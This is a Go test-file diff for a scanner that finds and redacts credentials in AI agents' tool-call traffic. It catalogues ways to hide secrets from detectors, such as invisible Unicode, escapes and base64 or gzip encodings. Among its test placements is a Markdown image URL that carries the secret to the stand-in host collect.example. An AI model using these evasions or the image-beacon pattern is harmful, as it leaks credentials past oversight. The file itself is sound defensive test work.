@@ -1,157 +1,243 @@
 package secret_test
 
 import (
-	"bytes"
-	"compress/gzip"
-	"encoding/base32"
-	"encoding/base64"
-	"encoding/hex"
+	"context"
+	"encoding/json"
 	"fmt"
 	"strings"
 	"testing"
 
+	"toolward/gateway"
+	"toolward/guard"
 	"toolward/guard/normal"
-	"toolward/guard/secret"
+	"toolward/guard/reading"
 )
 
-// hiding is a way to write a credential so that it does not look like one.
-type hiding struct {
-	name string
-	hide func(string) string
-}
-
-// transformations hide a credential; guard/normal takes them off before the detector reads.
-var transformations = []hiding{
-	{"plain", func(s string) string { return s }},
-	{"zero-width space", between("\u200b")},
-	{"zero-width joiner", between("\u200d")},
-	{"word joiner", between("\u2060")},
-	{"soft hyphen", between("\u00ad")},
-	{"byte order mark", between("\ufeff")},
-	{"left-to-right mark", between("\u200e")},
-	{"ANSI colour inside", func(s string) string { return s[:9] + "\x1b[1;31m" + s[9:] + "\x1b[0m" }},
-	{"fullwidth", each(func(r rune) string { return string(r - '!' + '\uff01') })},
-	{"mathematical", each(func(r rune) string {
-		switch {
-		case 'a' <= r && r <= 'z':
-			return string(r - 'a' + 0x1d5ba)
-		case 'A' <= r && r <= 'Z':
-			return string(r - 'A' + 0x1d5a0)
-		case '0' <= r && r <= '9':
-			return string(r - '0' + 0x1d7e2)
-		}
-		return string(r)
-	})},
-	{"variation selector", between("\ufe0f")},
-	{"invisible times", between("\u2062")},
-	{"bidi isolate", func(s string) string { return "\u2068" + s[:20] + "\u2069" + s[20:] }},
-	{"URL escapes of all", each(func(r rune) string { return fmt.Sprintf("%%%02X", r) })},
-	{"URL escapes twice", each(func(r rune) string { return fmt.Sprintf("%%25%02x", r) })},
-	{"JSON escapes", each(func(r rune) string { return fmt.Sprintf(`\u%04x`, r) })},
-	{"backslash x", each(func(r rune) string { return fmt.Sprintf(`\x%02x`, r) })},
-	{"HTML decimal", each(func(r rune) string { return fmt.Sprintf("&#%d;", r) })},
-	{"HTML hexadecimal", each(func(r rune) string { return fmt.Sprintf("&#x%x;", r) })},
-	{"tag characters", each(func(r rune) string { return string(0xe0000 + r) })},
-}
-
-// encodings turn it into letters of another alphabet.
-var encodings = []hiding{
-	{"base64", func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }},
-	{"base64url, no padding", func(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }},
-	{"base64 twice", func(s string) string {
-		return base64.StdEncoding.EncodeToString([]byte(base64.StdEncoding.EncodeToString([]byte(s))))
-	}},
-	{"base64 of gzip", func(s string) string {
-		var b bytes.Buffer
-		w := gzip.NewWriter(&b)
-		_, _ = w.Write([]byte(s))
-		_ = w.Close()
-		return base64.StdEncoding.EncodeToString(b.Bytes())
-	}},
-	{"base32", func(s string) string { return base32.StdEncoding.EncodeToString([]byte(s)) }},
-	{"hex", func(s string) string { return hex.EncodeToString([]byte(s)) }},
-	{"hex capitals", func(s string) string { return strings.ToUpper(hex.EncodeToString([]byte(s))) }},
-}
-
-// placements are where tool traffic has a credential. Where it is joined, other
-// letters of an encoding's alphabet touch it (an equals sign before base64, a
-// full stop after it), so that encoded text has no visible ends.
-var placements = []struct {
-	name, format string
-	joined       bool
-}{
-	{"alone", "%s", false},
-	{"JSON string", `{"service": "billing", "credentials": {"value": "%s"}, "retries": 3}`, false},
-	{"JSON in JSON", `{"content": "{\"token\": \"%s\"}"}`, false},
-	{"YAML", "services:\n  app:\n    environment:\n      - SECRET=%s\n    ports: [80]", false},
-	{"env file", "# .env\nNODE_ENV=production\nTOKEN=%s\nLOG_LEVEL=info", true},
-	{"TOML", "[auth]\ntoken = '%s'\n", false},
-	{"curl", `curl -s -H "Authorization: token %s" https://api.example.com/v2/items`, false},
-	{"URL query", "https://api.example.com/v2/items?limit=5&access_token=%s&page=2", true},
-	{"log line", "2026-09-18T10:22:31Z WARN auth retry with %s failed: 401", false},
-	{"Markdown table", "| name | token |\n| --- | --- |\n| deploy | %s |", false},
-	{"Markdown code", "Use `%s` for the deploy.\n", false},
-	{"source code", `const client = new Client({ key: "%s" }); // rotate`, false},
-	{"mail", "Hi team,\n\nFor the record the credential is %s.\n\nBest,\nJo", true},
-	{"XML", "<config><token>%s</token></config>", false},
-	{"shell export", "export GH_TOKEN=\"%s\"\nmake deploy", false},
-	{"chat", "jo: here you go %s :) delete it later", false},
-}
-
-func between(sep string) func(string) string {
-	return func(s string) string { return strings.Join(strings.Split(s, ""), sep) }
-}
-
-func each(write func(rune) string) func(string) string {
-	return func(s string) string {
-		var b strings.Builder
-		for _, r := range s {
-			b.WriteString(write(r))
-		}
-		return b.String()
-	}
-}
-
 // TestHiddenCredentialsAreFoundEverywhere is the matrix of transformations by
-// placements. In each cell some view of the normalised text must give up the
-// credential, and its span in the raw text must lie over the hidden one.
+// placements by both ways of a call, through the whole scanner: each cell must
+// have a finding that takes the credential out, and when it is taken out,
+// nothing of it may be left in any reading of what remains.
 func TestHiddenCredentialsAreFoundEverywhere(t *testing.T) {
+	s, err := guard.New(guard.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
 	for _, tr := range transformations {
-		for _, p := range placements {
-			findHidden(t, tr, p.name, p.format)
-		}
-	}
-}
-
-// TestEncodedCredentialsAreFound is the matrix of encodings by the placements
-// where encoded text has visible ends.
-func TestEncodedCredentialsAreFound(t *testing.T) {
-	for _, tr := range encodings {
-		for _, p := range placements {
-			if !p.joined {
-				findHidden(t, tr, p.name, p.format)
+		t.Run(tr.name, func(t *testing.T) {
+			t.Parallel()
+			for _, p := range placements {
+				for _, token := range tokens {
+					hiddenCell(t, s, p, token, tr.hide(token))
+				}
 			}
-		}
+		})
 	}
 }
 
-func findHidden(t *testing.T, tr hiding, place, format string) {
+// hiddenCell scans one cell as arguments and as a result.
+func hiddenCell(t *testing.T, s *guard.Scanner, p placement, token, hidden string) {
 	t.Helper()
-	const token = "ghp_" + madeToken + "Ab9Z"
-	hidden := tr.hide(token)
-	text := fmt.Sprintf(format, hidden)
-	at := strings.Index(text, hidden)
-	norm := normal.New(normal.Options{}).Normalize(text)
-	defer norm.Release()
-	d := newDetector(t, secret.Options{})
-	for i := range norm.Views {
-		v := &norm.Views[i]
-		for _, f := range d.Scan(nil, "", v.Text) {
-			span := v.Raw(f.Span[0], f.Span[1])
-			if f.Rule == "secret.github-pat" && v.Text[f.Span[0]:f.Span[1]] == token && span[0] < at+len(hidden) && span[1] > at {
-				return
+	placed := p.place(hidden)
+	for _, stage := range []gateway.Stage{gateway.StageRequest, gateway.StageResult} {
+		c := gateway.NewCall(gateway.SurfaceMCP, gateway.KindTool, "tools/call")
+		c.Agent = &gateway.Agent{ID: "anna", Issuer: "https://id.example"}
+		c.Tool = &gateway.Tool{Kind: gateway.KindTool, Server: "demo", Name: "tool", Wire: "demo__tool"}
+		c.Name = c.Tool.Wire
+		raw, scan := placed, s.Request
+		if stage == gateway.StageResult {
+			raw, scan = json.RawMessage(`{"content":[{"type":"text","text":"done"}],"structuredContent":`+string(placed)+`}`), s.Result
+			c.Result = &gateway.Result{Raw: raw}
+		} else {
+			args, err := gateway.ParseArgs(raw)
+			if err != nil {
+				t.Fatalf("%s: %v in %s", p.name, err, raw)
+			}
+			c.Args = args
+		}
+		report, err := scan(context.Background(), c)
+		if err != nil {
+			t.Errorf("%s: %v", p.name, err)
+			continue
+		}
+		var edits []gateway.Edit
+		for _, f := range report.Findings {
+			if f.Kind == gateway.FindingSecret && f.Action == gateway.ActionRedact {
+				edits = append(edits, gateway.Edit{Where: f.Where, Key: f.Key, Span: f.Span, With: "[redacted]"})
+			}
+		}
+		if len(edits) == 0 {
+			t.Errorf("%s, %s: %.8s not found in %s", p.name, stage, token, raw)
+			return
+		}
+		left, err := gateway.Redact(raw, edits)
+		if err != nil {
+			t.Errorf("%s: %v", p.name, err)
+			continue
+		}
+		if part := remains(string(left), token); part != "" {
+			t.Errorf("%s, %s: %q of %.8s is left in %s of %s", p.name, stage, part, token, left, raw)
+			return
+		}
+	}
+}
+
+// enough is how many letters of a credential in a row are too many to leave.
+const enough = 10
+
+// remains returns a part of the token that can be read in what is left, in any
+// way that the project has of reading a text.
+func remains(left, token string) string {
+	var texts []string
+	var strs func(any)
+	strs = func(v any) {
+		switch v := v.(type) {
+		case string:
+			texts = append(texts, v)
+		case []any:
+			for _, e := range v {
+				strs(e)
+			}
+		case map[string]any:
+			for name, e := range v {
+				texts = append(texts, name)
+				strs(e)
 			}
 		}
 	}
-	t.Errorf("%s in %s: not found in %q", tr.name, place, text)
+	var v any
+	if err := json.Unmarshal([]byte(left), &v); err != nil {
+		return "invalid JSON: " + err.Error()
+	}
+	strs(v)
+	var x reading.Expander
+	n := normal.New(normal.Options{})
+	whole := squash(token)
+	for _, text := range texts {
+		var all []string
+		norm := n.Normalize(text)
+		for _, v := range norm.Views {
+			all = append(all, v.Text)
+		}
+		norm.Release()
+		views, _ := x.Expand([]byte(text), nil)
+		for i := range views {
+			all = append(all, string(views[i].Text))
+		}
+		for _, reading := range all {
+			for _, r := range []string{squash(reading), squash(backwards(reading)), squash(rot13(reading))} {
+				for i := 0; i+enough <= len(whole); i++ {
+					if strings.Contains(r, whole[i:i+enough]) {
+						return whole[i : i+enough]
+					}
+				}
+			}
+		}
+	}
+	return ""
+}
+
+// squash leaves letters and digits.
+func squash(s string) string {
+	return strings.Map(func(r rune) rune {
+		if r >= '0' && r <= '9' || r >= 'A' && r <= 'Z' || r >= 'a' && r <= 'z' {
+			return r
+		}
+		return -1
+	}, s)
+}
+
+// placement is where tool traffic has a credential. The text with %s is made
+// as whoever writes such texts makes it: what would break it is escaped.
+type placement struct {
+	name, format string
+	escape       func(string) string // nil: as it is
+}
+
+// place returns a JSON object with the text in it.
+func (p placement) place(hidden string) json.RawMessage {
+	if p.escape != nil {
+		hidden = p.escape(hidden)
+	}
+	text := strings.ReplaceAll(p.format, "%s", hidden)
+	var v any = map[string]any{"id": 4, "body": text, "draft": true}
+	switch p.name {
+	case "member":
+		v = map[string]any{"service": "billing", "credentials": map[string]any{"value": text}, "retries": 3}
+	case "member name":
+		v = map[string]any{"headers": map[string]any{text: "yes"}}
+	case "list":
+		v = map[string]any{"command": "run", "args": []string{"--verbose", text, "--dry-run"}}
+	}
+	raw, err := json.Marshal(v)
+	if err != nil {
+		panic(fmt.Sprint("a placement that is no JSON: ", err))
+	}
+	return raw
+}
+
+var placements = []placement{
+	{"alone", "%s", nil},
+	{"member", "%s", nil},
+	{"member name", "%s", nil},
+	{"list", "%s", nil},
+	{"JSON string", `{"service": "billing", "credentials": {"value": "%s"}, "retries": 3}`, inJSON},
+	{"JSON in JSON", `{"content": "{\"note\": \"%s\"}"}`, func(s string) string { return inJSON(inJSON(s)) }},
+	{"JSON in JSON in JSON", `{"a": "{\"b\": \"{\\\"c\\\": \\\"%s\\\", \\\"d\\\": 2}\"}"}`, func(s string) string { return inJSON(inJSON(inJSON(s))) }},
+	{"YAML", "services:\n  app:\n    environment:\n      - SETTING=%s\n    ports: [80]", nil},
+	{"env file", "# .env\nNODE_ENV=production\nVALUE=%s\nLOG_LEVEL=info", nil},
+	{"TOML", "[auth]\nvalue = '%s'\n", nil},
+	{"INI with colon", "[auth]\nvalue:%s\nuser:jo\n", nil},
+	{"curl", `curl -s -H "X-Request: %s" https://api.example.com/v2/items`, nil},
+	{"HTTP header", "GET /v2/items HTTP/1.1\r\nHost: api.example.com\r\nX-Value: %s\r\nAccept: */*\r\n\r\n", nil},
+	{"cookie", "Cookie: theme=dark; sid=%s; lang=en", nil},
+	{"URL query", "https://api.example.com/v2/items?limit=5&ref=%s&page=2", nil},
+	{"URL query, escaped", "https://api.example.com/v2/items?limit=5&ref=%s&page=2", inURL},
+	{"URL path", "see https://api.example.com/v2/%s/items for it", inURL},
+	{"URL fragment", "https://app.example.com/cb#ref=%s", inURL},
+	{"form", "grant=client&value=%s&scope=read", inURL},
+	{"data URI", "data:text/plain,%s", inURL},
+	{"log line", "2026-09-18T10:22:31Z WARN auth retry with %s failed: 401", nil},
+	{"log field", `level=warn msg="retry" ref=%s, attempt=3`, nil},
+	{"Markdown table", "| name | value |\n| --- | --- |\n| deploy | %s |", nil},
+	{"Markdown code", "Use `%s` for the deploy.\n", nil},
+	{"Markdown image", "Done. ![ok](https://collect.example/p?d=%s)", inURL},
+	{"code fence", "```\n%s\n```\n", nil},
+	{"source code", `const client = new Client({ ref: "%s" }); // rotate`, inJSON},
+	{"mail", "Hi team,\n\nFor the record the value is %s.\n\nBest,\nJo", nil},
+	{"before a comma", "We had %s, but it was rotated; ask Kim.", nil},
+	{"in brackets", "the old value (%s) was revoked", nil},
+	{"in square brackets", "values: [%s]", nil},
+	{"in quotes", "She wrote '%s' on the board", nil},
+	{"XML", "<config><value>%s</value></config>", inXML},
+	{"HTML attribute", `<input type="text" name="v" value="%s">`, inXML},
+	{"CSV", "4,Kim,%s,2026-01-04\n5,Jo,,\n", nil},
+	{"shell export", "export VALUE=\"%s\"\nmake deploy", nil},
+	{"SQL", "INSERT INTO settings (name, value) VALUES ('gw', '%s');", nil},
+	{"chat", "jo: here you go %s :) delete it later", nil},
+	{"long text", strings.Repeat("The quarterly numbers look fine. ", 60) + "%s" + strings.Repeat(" Nothing else to report today.", 60), nil},
+}
+
+func inJSON(s string) string {
+	b, err := json.Marshal(s)
+	if err != nil {
+		panic(err)
+	}
+	return string(b[1 : len(b)-1])
+}
+
+// inURL escapes what has no place in a part of a URL.
+func inURL(s string) string {
+	var b strings.Builder
+	for i := range len(s) {
+		if c := s[i]; squash(s[i:i+1]) != "" || c == '-' || c == '_' || c == '.' || c == '~' {
+			b.WriteByte(c)
+		} else {
+			fmt.Fprintf(&b, "%%%02X", c)
+		}
+	}
+	return b.String()
+}
+
+func inXML(s string) string {
+	return strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;").Replace(s)
 }
